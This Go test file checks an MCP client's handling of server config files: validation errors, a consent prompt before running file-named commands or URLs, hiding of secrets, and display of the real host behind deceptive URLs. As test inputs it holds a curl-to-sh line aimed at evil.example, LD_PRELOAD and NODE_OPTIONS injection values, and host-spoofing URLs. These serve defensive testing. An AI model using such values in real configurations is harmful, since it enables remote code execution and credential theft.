package main

import (
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"example.com/mcp"
)

// inFolder makes a folder of files the current one, and returns its path.
func inFolder(t *testing.T, files map[string]string) string {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	must(t, err)
	for name, text := range files {
		must(t, os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644))
	}
	t.Chdir(dir)
	return dir
}

func TestServersFile(t *testing.T) {
	for _, c := range []struct{ text, stderr string }{
		{`{`, `FILE is no JSON: unexpected end of JSON input`},
		{``, `FILE is no JSON: unexpected end of JSON input`},
		{`[]`, `FILE: want an object with the member "mcpServers", an object of servers by their names`},
		{`{}`, `FILE: want an object with the member "mcpServers", an object of servers by their names`},
		{`{"mcpServers":[]}`, `FILE: want an object with the member "mcpServers", an object of servers by their names`},
		{`{"mcpServers":{"x":{"command":"a"},"x":{"command":"b"}}}`, `FILE: server "x" stands there twice`},
		{`{"mcpServers":{"y":{}}}`, `which server? "x" is no URL, and no name in FILE`},
		{`{"mcpServers":{"x":7}}`, `FILE: server "x": the value: want object, got number`},
		{`{"mcpServers":{"x":{}}}`, `FILE: server "x": command or url is missing`},
		{`{"mcpServers":{"x":{"Command":"a"}}}`, `FILE: server "x": command or url is missing`},
		{`{"mcpServers":{"x":{"command":["a"]}}}`, `FILE: server "x": /command: want string, got array`},
		{`{"mcpServers":{"x":{"command":"a","args":"b"}}}`, `FILE: server "x": /args: want array, got string`},
		{`{"mcpServers":{"x":{"command":"a","args":["b",1]}}}`, `FILE: server "x": /args/1: want string, got number`},
		{`{"mcpServers":{"x":{"command":"a","env":{"PORT":80}}}}`, `FILE: server "x": /env/PORT: want string, got number`},
		{`{"mcpServers":{"x":{"command":"a","cwd":null}}}`, `FILE: server "x": /cwd: want string, got null`},
		{`{"mcpServers":{"x":{"command":"a","type":"http"}}}`, `FILE: server "x": type "http" is not for what it has`},
		{`{"mcpServers":{"x":{"url":"http://h","type":"stdio"}}}`, `FILE: server "x": type "stdio" is not for what it has`},
		{`{"mcpServers":{"x":{"url":"http://h","type":"ws"}}}`, `FILE: server "x": /type: want one of ["stdio","http","streamable-http","streamableHttp","sse"], got "ws"`},
		{`{"mcpServers":{"x":{"url":"http://h","command":"a"}}}`, `FILE: server "x": there is a command and a url: want one of them`},
		{`{"mcpServers":{"x":{"url":"ftp://h"}}}`, `FILE: server "x": /url: want one that begins with http:// or https://`},
		{`{"mcpServers":{"x":{"url":"http://h","headers":{"A":5}}}}`, `FILE: server "x": /headers/A: want string, got number`},
		{`{"mcpServers":{"x":{"url":"http://h","headers":{"A:b":"secret"}}}}`, `FILE: server "x": /headers: "A:b" is no header, or its value has control characters`},
		{`{"mcpServers":{"x":{"url":"http://h","headers":{"A":"sec\nret"}}}}`, `FILE: server "x": /headers: "A" is no header, or its value has control characters`},
		{`{"mcpServers":{"x":{"command":"a","args":["${NOT_SET_AT_ALL}"]}}}`, `FILE: server "x": /args/0: NOT_SET_AT_ALL is not set, and there is no default`},
		{`{"mcpServers":{"x":{"url":"http://h","headers":{"A":"${NOT_SET_AT_ALL}"}}}}`, `FILE: server "x": /headers/A: NOT_SET_AT_ALL is not set, and there is no default`},
		{`{"mcpServers":{"x":{"command":"` + strings.Repeat("a", maxServersFile) + `"}}}`, `FILE: more than 1048576 bytes`},
	} {
		dir := inFolder(t, map[string]string{"servers.json": c.text})
		tr := new(trial).with(func(*program, []string) (mcp.Transport, error) { panic("no server may be reached") })
		tr.run("-config", "servers.json", "tools", "x").
			is(t, exitUsage, "", "mcp-client: "+strings.ReplaceAll(c.stderr, "FILE", filepath.Join(dir, "servers.json"))+"\n")
	}
	inFolder(t, nil)
	tr := new(trial).run("-config", "none.json", "tools", "x")
	if tr.code != exitUsage || !strings.HasPrefix(tr.stderr.String(), "mcp-client: open ") {
		t.Errorf("a file that is not there: %d, %s", tr.code, tr.stderr.String())
	}
}

// A server is what stands first or last, and a name is looked up in the usual places.
func TestServerByName(t *testing.T) {
	const entry = `{"command":"x"}`
	dir := inFolder(t, map[string]string{
		".mcp.json":                      "\ufeff" + `{"mcpServers":{"mine":` + entry + `,"tools":` + entry + `},"other":5}`,
		"config/mcp-client/servers.json": `{"mcpServers":{"yours":` + entry + `,"mine":{"command":5}}}`,
		"apart.json":                     `{"mcpServers":{"apart":` + entry + `}}`,
	})
	config := filepath.Join(dir, "config")
	for _, line := range []string{"call sum mine", "mine call sum", "call mine sum", "call sum yours", "yours call sum", "call sum tools", "apart call sum -config apart.json"} {
		want := outcome{0, "{\"sum\":3}\n", ""}
		if line == "call mine sum" {
			want = outcome{exitUsage, "", "mcp-client: which server? \"sum\" is no URL, and no name in " + filepath.Join(dir, ".mcp.json") + " or " +
				filepath.Join(config, "mcp-client", "servers.json") + "\n"}
		}
		(&trial{config: config, typed: "y\n"}).run(strings.Fields(line)...).is(t, want.code, want.stdout, want.stderr)
	}
	for line, stderr := range map[string]string{
		"yours call sum -config apart.json": `which server? "yours" is no URL, and no name in ` + filepath.Join(dir, "apart.json"),
		"mine tools -- x":                   "the server is a URL, a name or a command, not two of them",
		"tools -config apart.json -- x":     "-config is for a server by its name",
		"tools -config apart.json http://h": "-config is for a server by its name",
		"call mine":                         "which server? usage: mcp-client " + lookup("call").synopsis(),
		"fly mine":                          `unknown subcommand "fly"; mcp-client -h lists them`,
		"tools mine -header A:b":            "-header is for servers over HTTP",
		"logout mine":                       "logout is for servers over HTTP",
		"tools none":                        `which server? "none" is no URL, and no name in ` + filepath.Join(dir, ".mcp.json") + " or " + filepath.Join(config, "mcp-client", "servers.json"),
	} {
		(&trial{config: config}).run(strings.Fields(line)...).is(t, exitUsage, "", "mcp-client: "+stderr+"\n")
	}
}

func TestServers(t *testing.T) {
	dir := inFolder(t, map[string]string{
		".mcp.json":                      `{"mcpServers":{"b":{"command":"run it","args":["--token","${T}"]},"a":{"url":"https://me:pw@h.example/mcp?key=1","headers":{"X":"secret"}}}}`,
		"config/mcp-client/servers.json": `{"mcpServers":{"c\u001b":{"command":"c"},"b":{"command":"not this one"}}}`,
	})
	config := filepath.Join(dir, "config")
	one, two := filepath.Join(dir, ".mcp.json"), filepath.Join(config, "mcp-client", "servers.json")
	(&trial{config: config}).run("servers").is(t, exitOK,
		"b: 'run it' --token '${T}' ("+one+")\na: https://h.example/mcp ("+one+")\nc\\x1b: c ("+two+")\n", "")
	(&trial{config: config}).run("servers", "-json", "-config", ".mcp.json").is(t, exitOK,
		`{"name":"b","file":"`+one+`","command":["run it","--token","${T}"]}`+"\n"+`{"name":"a","file":"`+one+`","url":"https://h.example/mcp"}`+"\n", "")
	must(t, os.WriteFile(two, []byte(`{"mcpServers":{"x":{"url":5},"y":{"command":"y"},"z":{}}}`), 0o600))
	(&trial{config: config}).run("-q", "servers").is(t, exitUsage,
		"b: 'run it' --token '${T}' ("+one+")\na: https://h.example/mcp ("+one+")\ny: y ("+two+")\n",
		"mcp-client: "+two+`: server "x": /url: want string, got number`+"\nmcp-client: "+two+`: server "z": command or url is missing`+"\n")
	must(t, os.Remove(one))
	must(t, os.Remove(two))
	(&trial{config: config}).run("servers").is(t, exitOK, "", "no servers are known; they would stand in "+one+" or "+two+"\n")
}

// A command from a file is asked about, the first time and when anything of it has changed.
func TestAllow(t *testing.T) {
	const first = `"command":"x y","args":["--all","\u001b[2J"],"env":{"MODE":"fast","API_KEY":"hidden"},"cwd":"sub"`
	file := func(entry string) string { return `{"mcpServers":{"s":{` + entry + `}}}` }
	dir := inFolder(t, map[string]string{".mcp.json": file(first)})
	config := filepath.Join(dir, "config")
	at := filepath.Join(dir, ".mcp.json")
	const question = "Allow it, now and later? y yes, d no: "
	shown := at + " wants to start a server, as \"s\":\n  command: 'x y' --all '\\x1b[2J'\n  in the folder: " + filepath.Join(dir, "sub") +
		"\n  with API_KEY=(not shown)\n  with MODE=fast\n"
	run := func(typed string, line ...string) *trial {
		return (&trial{config: config, typed: typed}).run(append(line, "call", "sum", "s")...)
	}
	const done = "{\"sum\":3}\n"
	refused := "mcp-client: server \"s\" of " + at + " is not used, since "
	for _, typed := range []string{"d\n", "c\n", "what\n"} {
		tr := run(typed)
		tr.is(t, exitConnection, "", refused+"you did not allow it\n")
		if got := tr.screen.String(); !strings.HasPrefix(got, shown+question) {
			t.Errorf("shown:\n%s\nwant:\n%s", got, shown+question)
		}
	}
	run("", "-yes").is(t, exitConnection, "", shown+refused+
		"nobody has allowed it, and there is no terminal to ask at: run this once at a terminal, or name the command or URL itself\n")
	run("y\n").is(t, exitOK, done, "")
	run("").is(t, exitOK, done, "")
	checkAllowed(t, config)
	for _, changed := range []string{
		strings.Replace(first, "x y", "x z", 1), strings.Replace(first, "--all", "--none", 1), strings.Replace(first, "fast", "slow", 1),
		strings.Replace(first, "hidden", "other", 1), strings.Replace(first, "API_KEY", "LD_PRELOAD", 1), strings.Replace(first, `"sub"`, `"."`, 1),
		strings.Replace(first, `,"cwd":"sub"`, "", 1),
	} {
		must(t, os.WriteFile(at, []byte(file(changed)), 0o600))
		run("").is(t, exitConnection, "", "*")
		tr := run("y\n")
		tr.is(t, exitOK, done, "")
		if got := tr.screen.String(); !strings.HasSuffix(got, "\nThis is not what you allowed before.\n"+question) {
			t.Errorf("%s: shown:\n%s", changed, got)
		}
	}
	must(t, os.WriteFile(at, []byte(`{"mcpServers":{"s":{"timeout":5,"command":"x z"},"t":{}}}`), 0o600))
	run("y\n").is(t, exitOK, done, "")
	must(t, os.WriteFile(at, []byte(`{"mcpServers":{"s":{"command":"x z"}}}`), 0o600)) // which is the same for us
	run("").is(t, exitOK, done, "")
	must(t, os.Rename(at, filepath.Join(dir, "other.json")))
	(&trial{config: config}).run("tools", "-config", "other.json", "s").is(t, exitConnection, "", "*")
}

// checkAllowed looks at what is kept of what was allowed.
func checkAllowed(t *testing.T, config string) {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(config, "mcp-client", "allowed", "*"))
	must(t, err)
	if len(files) != 1 {
		t.Fatalf("files %q, want one", files)
	}
	info, err := os.Stat(files[0])
	must(t, err)
	text, err := os.ReadFile(files[0])
	must(t, err)
	if info.Mode().Perm()&0o077 != 0 || len(text) != 64 {
		t.Errorf("%v, %q", info.Mode(), text)
	}
}

// Where the answer cannot be kept, it is asked for again.
func TestAllowNotKept(t *testing.T) {
	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"s":{"command":"x"}}}`})
	for range 2 {
		(&trial{typed: "y\n", noConfig: true}).run("call", "sum", "s").is(t, exitOK, "{\"sum\":3}\n", "what was allowed cannot be read: there is no home\n")
		tr := (&trial{typed: "y\n", config: filepath.Join(dir, ".mcp.json")}).run("call", "sum", "s")
		if got := tr.stderr.String(); tr.code != exitOK || !strings.Contains(got, "what was allowed cannot be read: ") || !strings.Contains(got, "what you allow is not kept: ") {
			t.Errorf("exit code %d, stderr %q", tr.code, got)
		}
	}
	must(t, os.Remove(filepath.Join(dir, ".mcp.json")))
	(&trial{noConfig: true}).run("servers").is(t, exitOK, "", "no servers are known; they would stand in "+filepath.Join(dir, ".mcp.json")+"\n")
}

// What an entry says of a command is what is run.
func TestCommandFromFile(t *testing.T) {
	t.Setenv("SOME_VAR", "a b")
	t.Setenv("EMPTY_VAR", "")
	dir := inFolder(t, nil)
	for _, c := range []struct{ entry, command, dir, env string }{
		{`"command":"x"`, "x", dir, ""},
		{`"command":"./x","args":[]`, filepath.Join(dir, "x"), dir, ""},
		{`"command":"sub/x","cwd":"../other"`, filepath.Join(dir, "sub/x"), filepath.Join(filepath.Dir(dir), "other"), ""},
		{`"command":"http://x"`, filepath.Join(dir, "http:/x"), dir, ""},
		{`"command":"/bin/x","cwd":"/tmp","type":"stdio"`, "/bin/x", "/tmp", ""},
		{`"command":"${SOME_VAR}","args":["${SOME_VAR:-no}","-${NOT_SET:-}-","${NOT_SET:-a:-b}","${EMPTY_VAR:-no}"],"cwd":"/${SOME_VAR}"`, "a b|a b|--|a:-b|", "/a b", ""},
		{`"command":"x","args":["$SOME_VAR","${}","${1}","${a b}","$${SOME_VAR}","${SOME_VAR","${env:SOME_VAR}"]`, "x|$SOME_VAR|${}|${1}|${a b}|$a b|${SOME_VAR|${env:SOME_VAR}", dir, ""},
		{`"command":"x","env":{"B":"${SOME_VAR}","A":"=1"}`, "x", dir, "A==1|B=a b"},
	} {
		must(t, os.WriteFile(".mcp.json", []byte(`{"mcpServers":{"s":{`+c.entry+`}}}`), 0o600))
		p := &program{screen: &screen{w: io.Discard}, config: func() (string, error) { return dir, nil }}
		_, _, target, err := p.parse([]string{"tools", "s"})
		must(t, err)
		cmd := p.command(target)
		own := cmd.Env[len(os.Environ()):]
		if got := strings.Join(cmd.Args, "|"); got != c.command || cmd.Dir != c.dir || strings.Join(own, "|") != c.env || !slices.Equal(cmd.Env[:len(os.Environ())], os.Environ()) {
			t.Errorf("%s: runs %q in %s with %q", c.entry, cmd.Args, cmd.Dir, own)
		}
	}
}

// A server from a file is a server like any other.
func TestServerFromFile(t *testing.T) {
	_, self := client(t)
	entry, err := json.Marshal(map[string]any{"mcpServers": map[string]any{"s": map[string]any{"command": self, "args": []string{"${WHAT:-test-server}"}}}})
	must(t, err)
	dir := inFolder(t, map[string]string{".mcp.json": string(entry)})
	tr := &trial{config: dir, typed: "y\n"}
	tr.with(dial).run("call", "echo", "text=hi", "s").is(t, exitOK, "hi\n",
		"starting: "+shellText([]string{self, "${WHAT:-test-server}"})+"\nserver: the test server ends\n")
}

// Headers from a file go with every request, those of the command line before them, and
// are shown nowhere. What they take from the environment is asked about.
func TestURLFromFile(t *testing.T) {
	t.Setenv("A_TOKEN", "t0ken")
	h := &mcp.HTTPHandler{Server: newTestServer(&watcher{})}
	missing := make(chan string, 100)
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if got := r.Header.Get("X-One") + "|" + r.Header.Get("X-Two") + "|" + r.URL.RawQuery; got != "Bearer t0ken|mine|k=t0ken" {
			missing <- got
		}
		h.ServeHTTP(w, r)
	}))
	defer web.Close()
	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"w":{"url":"` + web.URL + `?k=${A_TOKEN}","headers":{"x-one":"Bearer ${A_TOKEN}","X-TWO":"s3cret"}},` +
		`"plain":{"type":"http","url":"` + web.URL + `?k=t0ken","headers":{"X-One":"Bearer t0ken","x-two":"mine"}}}}`})
	tr := &trial{config: dir, typed: "y\n"}
	tr.with(dial).run("-trace", "call", "sum", "w", "-header", "X-Two: mine")
	shown := filepath.Join(dir, ".mcp.json") + " wants to use a server over HTTP, as \"w\":\n  URL: " + web.URL + "\n  host: " + strings.TrimPrefix(web.URL, "http://") +
		"\n  It is sent from your environment: A_TOKEN\n  It is sent from your command line: X-Two\n"
	if got := tr.screen.String(); tr.code != exitOK || !strings.HasPrefix(got, shown) {
		t.Errorf("exit code %d, shown:\n%s\nwant:\n%s", tr.code, got, shown)
	}
	if all := tr.screen.String() + tr.stdout.String() + tr.stderr.String(); strings.Contains(all, "t0ken") || strings.Contains(all, "s3cret") {
		t.Errorf("a secret is shown:\n%s", all)
	}
	(&trial{config: dir}).with(dial).run("-q", "call", "sum", "plain").is(t, exitOK, "{\"sum\":3}\n", "")
	select {
	case got := <-missing:
		t.Errorf("a request had %s", got)
	default:
	}
}

// The question about a URL shows the host that it leads to, however it is written.
func TestURLShown(t *testing.T) {
	t.Setenv("A_PATH", "/x")
	for _, c := range []struct{ url, shown, host string }{
		{"https://h.example/mcp", "https://h.example/mcp", "h.example"},
		{"https://me:pw@h.example/mcp?key=1", "https://h.example/mcp", "h.example"},
		{"https://evil.example#@h.example/mcp", "https://evil.example", "evil.example"},
		{"https://evil.example?@h.example/mcp", "https://evil.example", "evil.example"},
		{"https://evil.example${A_PATH}@h.example/mcp", "https://h.example/mcp", "evil.example"},
		{"https://${NOT_SET_AT_ALL:-evil.example#}@h.example/", "https://${NOT_SET_AT_ALL:-evil.example", "evil.example"},
		{"https://h\u0430.example/", "https://h\u0430.example/", `h\u{430}.example`},
	} {
		s := &namedServer{File: "/f", Name: "n", URL: c.url, Headers: map[string]string{"X": "${A_PATH}"}}
		_, err := s.online(&http.Header{})
		must(t, err)
		if got := s.shown()[1:3]; !slices.Equal(got, []string{"  URL: " + c.shown, "  host: " + c.host}) {
			t.Errorf("%s: %q, want %s and %s", c.url, got, c.shown, c.host)
		}
	}
}

// A file that a folder happens to have does not get what the command line sends to a server
// of that name, unless the person agrees.
func TestHeaderToURLFromFile(t *testing.T) {
	const url = "https://evil.example/mcp"
	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"w":{"url":"` + url + `"}}}`})
	reached := 0
	run := func(typed string, line ...string) *trial {
		tr := (&trial{config: dir, typed: typed}).with(func(*program, []string) (mcp.Transport, error) {
			reached++
			return nil, errors.New("nobody is there")
		})
		return tr.run(append([]string{"-q", "tools", "w"}, line...)...)
	}
	run("").is(t, exitConnection, "", "mcp-client: nobody is there\n")
	run("", "-yes", "-header", "Authorization: Bearer t0ken").is(t, exitConnection, "", "mcp-client: server \"w\" of "+filepath.Join(dir, ".mcp.json")+
		" is not used, since nobody has allowed it, and there is no terminal to ask at: run this once at a terminal, or name the command or URL itself\n")
	if reached != 1 {
		t.Errorf("the server was reached %d times, want once", reached)
	}
	tr := run("y\n", "-header", "Authorization: Bearer t0ken")
	want := filepath.Join(dir, ".mcp.json") + " wants to use a server over HTTP, as \"w\":\n  URL: " + url + "\n  host: evil.example\n" +
		"  It is sent from your command line: Authorization\nAllow it, now and later? y yes, d no: "
	if got := tr.screen.String(); got != want || reached != 2 {
		t.Errorf("reached %d times, shown:\n%s\nwant:\n%s", reached, got, want)
	}
}

// What a URL of a file takes from the environment is not shown.
func TestURLFromFileNoted(t *testing.T) {
	t.Setenv("A_TOKEN", "t0ken")
	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"w":{"url":"https://h.example/${A_TOKEN}/mcp"}}}`})
	tr := (&trial{config: dir, typed: "y\n"}).with(func(p *program, target []string) (mcp.Transport, error) {
		if _, err := p.httpTransport(target[0]); err != nil {
			return nil, err
		}
		return nil, errors.New("nobody is there")
	})
	tr.run("tools", "w").is(t, exitConnection, "", "connecting to: https://h.example/${A_TOKEN}/mcp\nmcp-client: nobody is there\n")
}

func TestSecretEnvironment(t *testing.T) {
	for text, want := range map[string]bool{
		"API_KEY=x": true, "token=x": true, "DB_PASS=x": true, "MY_PASSWORD=x": true, "ID=0123456789abcdefghij": true, "URL=postgres://u:p@h/x": true,
		"A=Bearer": false, "GIT_ASKPASS=/bin/evil": false, "PATH=/usr/local/bin/that/is/long": false, "NODE_OPTIONS=--require ./evil.js with more": false,
		"NODE_OPTIONS=--require=evil-module.js": false, "LD_PRELOAD=lib-of-somebody-else.so": false, "BASH_ENV=x://a@b": false,
		"DEFAULT=$(curl https://a@evil.example | sh)": false, "MIRROR=https://token@h.example/": true,
		"API_KEY=${KEY}": false, "API_KEY=${KEY:-x}": false, "API_KEY=x${KEY}": true, "KEY=": false,
	} {
		name, value, _ := strings.Cut(text, "=")
		if got := secret(name, value); got != want {
			t.Errorf("%s is secret: %v, want %v", text, got, want)
		}
	}
}

// An interrupt ends the question.
func TestAllowInterrupted(t *testing.T) {
	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"s":{"command":"x"}}}`})
	tr := &trial{config: dir, signals: make(chan os.Signal, 1)}
	in, never := io.Pipe()
	defer never.Close()
	tr.open = func() (io.Reader, io.Writer, error) {
		return in, writerFunc(func(b []byte) (int, error) {
			if strings.HasPrefix(string(b), "Allow it") {
				tr.signals <- os.Interrupt
			}
			return len(b), nil
		}), nil
	}
	tr.with(func(*program, []string) (mcp.Transport, error) { panic("nothing may be started") })
	tr.run("tools", "s").is(t, exitInterrupted, "", "mcp-client: interrupted\n")
}
